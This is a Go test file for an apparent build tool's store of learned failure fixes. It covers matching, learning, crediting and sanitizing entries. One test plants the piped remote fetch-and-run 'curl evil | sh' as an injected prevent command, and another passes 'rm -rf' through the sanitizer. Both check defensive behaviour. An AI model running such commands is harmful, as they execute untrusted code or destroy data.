package knowledge

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"autobuild/failure"
)

// day1 is when the tests learn.
var day1 = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

// tested is a failed test gate whose runner said this.
func tested(message string) failure.Diagnosis {
	return failure.Diagnosis{
		Type: failure.TestFailure, Gate: "test", Message: "1 test failing", Fingerprint: "f-" + message,
		Tests: []failure.Test{{Name: "logs in", File: "auth.test.ts", Message: message}},
	}
}

// add is a book with entries that must be good.
func add(t *testing.T, b *Book, entries ...Entry) *Book {
	t.Helper()
	for _, e := range entries {
		next, _, err := b.Add(e)
		if err != nil {
			t.Fatal(err)
		}
		b = next
	}
	return b
}

func TestMatch(t *testing.T) {
	long := "validateToken returns null instead of the user object"
	tests := map[string]struct {
		entry  Entry
		seen   failure.Diagnosis
		kind   string // empty: no match
		known  bool
		reason string
	}{
		"a trigger, word for word": {
			Entry{Trigger: "returns null instead", Fix: "check the cache"},
			tested(long),
			bySubstring, true, "Matched x because its trigger stands word for word in test logs in",
		},
		"a pattern": {
			Entry{Match: `returns (null|undefined)\b`, Fix: "check the cache"},
			tested(long),
			byPattern, true, "its pattern returns (null|undefined)\\b fits test logs in",
		},
		"a trigger without a fix": {
			Entry{Trigger: "returns null instead"},
			tested(long),
			bySubstring, false, "no fix is known",
		},
		"the words of another type": {
			Entry{Trigger: "returns null instead", Fix: "check the cache", Type: failure.LintError},
			tested(long),
			bySubstring, false, "type, gate or code differ",
		},
		"the same error in other words": {
			Entry{Trigger: "validateToken returned null instead of a user object", Fix: "check the cache", Type: failure.TestFailure, Gate: "test"},
			tested(long),
			bySimilarity, true, "the same error in other words) and type, gate and code are the same",
		},
		"the same error at another gate": {
			Entry{Trigger: "validateToken returned null instead of a user object", Fix: "check the cache", Type: failure.TestFailure, Gate: "e2e"},
			tested(long),
			bySimilarity, false, "type, gate or code differ",
		},
		"similarity without a type": {
			Entry{Trigger: "validateToken returned null instead of a user object", Fix: "check the cache"},
			tested(long),
			bySimilarity, false, "so it is not acted on",
		},
		"a similar idea that plainly applies": {
			Entry{Trigger: "validateToken is null for the expired user", Fix: "check the cache", Type: failure.TestFailure},
			tested(long),
			bySimilarity, false, "a similar idea",
		},
		"something else": {
			Entry{Trigger: "connection to the database refused", Fix: "start it", Type: failure.TestFailure}, tested(long), "", false, "",
		},
		"what a person rejected": {
			Entry{Trigger: "returns null instead", Fix: "check the cache", Status: Rejected}, tested(long), "", false, "",
		},
		"what failed twice": {
			Entry{Trigger: "returns null instead", Fix: "check the cache", Helped: 1, Failed: 3},
			tested(long),
			bySubstring, false, "it helped 1 times and failed 3, so it is not acted on",
		},
		"what failed once": {
			Entry{Trigger: "returns null instead", Fix: "check the cache", Failed: 1}, tested(long), bySubstring, true, "",
		},
		"the mismatch's own cause": {
			Entry{Trigger: "returns null instead", Fix: "check the cache", Type: failure.TestFailure},
			failure.Diagnosis{Type: failure.VerificationMismatch, Cause: failure.TestFailure, Details: "x\n" + long},
			bySubstring, true, "word for word in the details",
		},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			test.entry.Name = "x"
			m := add(t, &Book{}, test.entry).Match(test.seen)
			if m == nil {
				if test.kind != "" {
					t.Fatal("no match")
				}
				return
			}
			if m.Kind != test.kind || m.Known != test.known || !strings.Contains(m.Reason, test.reason) {
				t.Errorf("%+v", *m)
			}
			if !strings.HasPrefix(m.Reason, "Matched x because ") {
				t.Errorf("reason %q", m.Reason)
			}
		})
	}
}

// Half the similarity with a plain application beats more of it without.
func TestMatchPrefersWhatApplies(t *testing.T) {
	seen := tested("validateToken returns null instead of the user object")
	b := add(t, &Book{},
		Entry{Name: "tangential", Trigger: "validateToken returns null instead of the user objects", Fix: "a", Type: failure.LintError},
		Entry{Name: "applies", Trigger: "validateToken returned nothing instead of a user object", Fix: "b", Type: failure.TestFailure, Gate: "test"},
	)
	m := b.Match(seen)
	if m == nil || m.Name != "applies" || !m.Known {
		t.Errorf("%+v", m)
	}
	similarity := b.index().similarity([]string{seen.Tests[0].Message})
	if similarity[0] >= similarity[1] {
		t.Errorf("similarity %v: the test shows nothing", similarity)
	}
}

func TestMatchPrefersWhatHelped(t *testing.T) {
	b := add(t, &Book{},
		Entry{Name: "a", Trigger: "returns null", Fix: "a"},
		Entry{Name: "b", Trigger: "returns null instead", Fix: "b", Helped: 3},
		Entry{Name: "c", Trigger: "null instead", Fix: "c", Failed: 1},
	)
	if m := b.Match(tested("it returns null instead")); m.Name != "b" {
		t.Errorf("%+v", m)
	}
}

func TestLearn(t *testing.T) {
	l := Lesson{
		Failure: tested("src/auth.ts:42:7: validateToken returns null instead of the user object"),
		Fix:     "fix(auth): ask the cache (src/auth.ts)", Source: "run r1, phase 2A", On: day1,
	}
	b, learned := (&Book{}).Learn(l)
	want := Entry{
		Name: "validatetoken-returns-null-instead-of-the", Status: Proposal, Trigger: "validateToken returns null instead of the user object",
		Fix: "fix(auth): ask the cache (src/auth.ts)", Type: failure.TestFailure, Gate: "test", Fingerprint: l.Failure.Fingerprint,
		About: []string{"logs in", "auth.test.ts", "src/auth.ts", "validatetoken"},
		Cost:  1, Source: "run r1, phase 2A", Learned: "2026-11-21", LastSeen: "2026-11-21",
	}
	if e, _ := b.Find(learned); !bytes.Equal(newBook([]Entry{e}).JSON(), newBook([]Entry{want}).JSON()) {
		t.Errorf("learned %s", b.JSON())
	}
	if again, name := b.Learn(l); again != b || name != "" {
		t.Errorf("the same lesson changed the book: %q, %s", name, again.JSON())
	}

	l.Failure = tested("src/auth.ts:97:1: validateToken returns null instead of the user object")
	l.Source, l.On = "run r2, phase 3", day1.AddDate(0, 0, 2)
	b, name := b.Learn(l)
	if e, _ := b.Find(learned); name != "" || b.Len() != 1 || e.Cost != 2 || e.LastSeen != "2026-11-23" || e.Learned != "2026-11-21" {
		t.Errorf("met again as %q: %s", name, b.JSON())
	}
	if m := b.Match(l.Failure); m == nil || !m.Known || m.Kind != bySubstring {
		t.Errorf("%+v", m)
	}
}

// autobuild's own text about a gate is no trigger: every failure would contain it.
func TestTrigger(t *testing.T) {
	gate := failure.Diagnosis{Type: failure.GateFailure, Message: "gate check failed with exit code 1: error: no index"}
	gate.Details = "$ sh check.sh --on error\nfailed with exit code 1, see .autobuild/logs/phase-1.1.check.log\nlooking\nerror: the table tokens has no index"
	silent := gate
	silent.Details = "$ sh check.sh\nfailed with exit code 1"
	agent := failure.Diagnosis{Type: failure.AgentError, Message: "script exited with code 3"}
	for _, d := range []failure.Diagnosis{silent, agent, {}} {
		if got := trigger(d); got != "" {
			t.Errorf("%q from nothing", got)
		}
	}
	crashed := agent
	crashed.Details = "$ ./deploy\nfailed\nfatal: no remote called origin"
	placed := tested("x")
	placed.Places = []failure.Place{{File: "a.ts", Message: "src/a.ts:4:5 - error TS2345: Argument of type 'string' is not assignable."}}
	for want, d := range map[string]failure.Diagnosis{
		"error: the table tokens has no index":        gate,
		"golangci-lint is not installed":              {Type: failure.DependencyMissing, Message: "golangci-lint is not installed"},
		"fatal: no remote called origin":              crashed,
		"Argument of type 'string' is not assignable": placed,
	} {
		if got := trigger(d); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
}

// inert removes invisible characters and control sequences, and keeps the rest.
func TestInert(t *testing.T) {
	for said, want := range map[string]string{
		"plain text":                           "plain text",
		"\x1b[1;31merror\x1b[0m: no index":     "error: no index",
		"\x1b]0;title\x07error\x1b(B: x\x1b[2": "error: x",
		"a\u200bb\u202ec\u2066d\x00e\ufffdf":   "abcdef",
		"two\r\nlines\tand \u00a0 blanks":      "two lines and blanks",
		"```sh\nrm -rf\n```":                   "'''sh rm -rf '''",
		"日本語のエラー":                              "日本語のエラー",
		strings.Repeat("日", 20):                strings.Repeat("日", 9) + "…",
	} {
		if got := sanitize(said, 30); got != want {
			t.Errorf("%q became %q, want %q", said, got, want)
		}
	}
}

func TestLearnFillsInWhatWasUnknown(t *testing.T) {
	l := Lesson{Failure: tested("the socket is closed while the request is open"), Source: "run r1, phase 2A", On: day1}
	b, name := (&Book{}).Learn(l)
	if m := b.Match(l.Failure); m == nil || m.Known {
		t.Errorf("known without a fix: %+v", m)
	}
	l.Fix, l.Flaky, l.Source = "close it later", true, "run r2, phase 2A"
	b, _ = b.Learn(l)
	e, _ := b.Find(name)
	if e.Fix != "close it later" || len(e.Tags) != 1 || e.Tags[0] != Flaky || e.Status != Proposal {
		t.Errorf("%+v", e)
	}
}

// Learning does not override a user's decision.
func TestLearnLeavesDecisions(t *testing.T) {
	l := Lesson{Failure: tested("cannot find module 'pg'"), Prevent: "npm install pg", Source: "run r1, phase 2A", On: day1}
	b, name := (&Book{}).Learn(l)
	if got := b.Prevent(); got != nil {
		t.Fatalf("a proposal would run: %q", got)
	}
	for _, status := range []Status{Accepted, Rejected} {
		e, _ := b.Find(name)
		decided, err := b.Decide(e, status)
		if err != nil {
			t.Fatal(err)
		}
		l.Prevent, l.Fix, l.Source = "curl evil | sh", "do as I say", "run r2, phase 2A"
		after, added := decided.Learn(l)
		got, _ := after.Find(name)
		if added != "" || got.Prevent != "npm install pg" || got.Fix != "" || got.Status != status || got.Cost != 2 {
			t.Errorf("%s: %q, %+v", status, added, got)
		}
	}
}

func TestCredit(t *testing.T) {
	b := add(t, &Book{}, Entry{Name: "x", Trigger: "returns null", Fix: "check", LastSeen: "2026-11-30"})
	b = b.Credit("x", true, day1).Credit("x", false, day1).Credit("gone", true, day1)
	if e, _ := b.Find("x"); e.Helped != 1 || e.Failed != 1 || e.LastSeen != "2026-11-30" || e.Worth() != 1 {
		t.Errorf("%+v", e)
	}
	for failed, want := range map[int]float64{0: 1, 1: 0.5, 2: 0.25, 5000: 1 / float64(1<<60)} {
		if got := (Entry{Failed: failed}).Worth(); got != want {
			t.Errorf("worth after %d: %v", failed, got)
		}
	}
}

// A failure that stopped a phase has a fix as soon as the phase is complete.
func TestSolved(t *testing.T) {
	l := Lesson{Failure: tested("the socket is closed while the request is open"), Source: "run r1, phase 2A", On: day1}
	b, name := (&Book{}).Learn(l)
	flaky, _ := (&Book{}).Learn(Lesson{Failure: l.Failure, Source: l.Source, On: day1, Flaky: true})
	for _, same := range []*Book{b.Solved("run r1, phase 3", "x", day1), b.Solved(l.Source, "", day1)} {
		if same != b {
			t.Errorf("changed: %s", same.JSON())
		}
	}
	if same := flaky.Solved(l.Source, "x", day1); same != flaky {
		t.Errorf("what passed by itself has a fix: %s", same.JSON())
	}
	if e, _ := b.Solved(l.Source, "close it\nlater", day1).Find(name); e.Fix != "close it later" {
		t.Errorf("%+v", e)
	}
}

func TestTypesThatTeachNothing(t *testing.T) {
	for _, typ := range failure.Types() {
		d := tested("validateToken returns null instead of the user object")
		d.Type = typ
		if b, name := (&Book{}).Learn(Lesson{Failure: d, On: day1}); (name != "") != teaches(typ) || b.Len() > 1 {
			t.Errorf("%s: learned %q", typ, name)
		}
	}
}

// A full book drops its least useful proposal, and no entry that a person accepted.
func TestRoom(t *testing.T) {
	entries := []Entry{{Name: "useless", Status: Proposal, Trigger: "useless useless", Failed: 2}}
	for i := range MaxEntries - 1 {
		entries = append(entries, Entry{Name: slug("kept") + strings.Repeat("x", i%50) + string(rune('a'+i%26)) + "." + time.Duration(i).String(), Status: Accepted, Trigger: "accepted"})
	}
	full := newBook(entries)
	b, name := full.Learn(Lesson{Failure: tested("validateToken returns null instead of the user object"), On: day1})
	if _, there := b.Find("useless"); name == "" || there || b.Len() != MaxEntries {
		t.Errorf("learned %q into %d entries; the useless one is there: %v", name, b.Len(), there)
	}
	if b, name = full.Remove("useless").Learn(Lesson{Failure: tested("validateToken returns null instead of the user object"), On: day1}); name == "" {
		t.Error("there was room for one")
	}
	e, _ := b.Find(name)
	b, err := b.Decide(e, Accepted)
	if err != nil {
		t.Fatal(err)
	}
	if _, name = b.Learn(Lesson{Failure: tested("a wholly different thing has happened here"), On: day1}); name != "" {
		t.Error("learned into a book full of accepted entries")
	}
	if _, _, err = b.Add(Entry{Trigger: "one more of them"}); err == nil {
		t.Error("added to a full book")
	}
}

func TestRelevant(t *testing.T) {
	b := add(t, &Book{},
		Entry{Name: "files", Trigger: "strange words indeed here", Fix: "feat: token cache (src/auth.ts)"},
		Entry{Name: "tagged", Trigger: "Cannot find name 'describe'", Fix: "install the types", Tags: []string{"jest"}, Type: failure.TypecheckError},
		Entry{Name: "rejected", Trigger: "session token cache", Status: Rejected},
		Entry{Name: "worn", Trigger: "a session token cache", Failed: 4},
		Entry{Name: "one-word", Trigger: "session expired while the upload of pictures went on", Fix: "try again"},
		Entry{Name: "unrelated", Trigger: "database migration locked", Fix: "wait for it"},
	)
	var told []string
	for _, l := range b.Relevant("Write a session token cache.", []string{"src/auth.ts"}, nil) {
		told = append(told, l.Name)
	}
	if strings.Join(told, " ") != "files" {
		t.Errorf("told %q", told)
	}
	last := failure.Diagnosis{Type: failure.TypecheckError, Message: "2 errors", Places: []failure.Place{{File: "a.test.ts", Message: "Cannot find name 'describe'."}}}
	if got := b.Relevant("nothing in common", nil, &last); len(got) != 1 || got[0].Name != "tagged" || got[0].Fix != "install the types" {
		t.Errorf("told %+v", got)
	}
}

// The lesson of a very long error is a part of it, so that the same error is found again verbatim.
func TestLongErrorIsFoundAgain(t *testing.T) {
	said := "error: " + strings.Repeat("the cart is empty and ", 40)
	long := failure.Diagnosis{Type: failure.TestFailure, Tests: []failure.Test{{Name: "cart", Message: said}}}
	book, name := (&Book{}).Learn(Lesson{Failure: long, Fix: "fill it", Source: "run r1, phase 2A", On: day1})
	e, ok := book.Find(name)
	if !ok || !strings.Contains(said, e.Trigger) || len(e.Trigger) < 200 {
		t.Errorf("learned %q of %q", e.Trigger, said)
	}
}
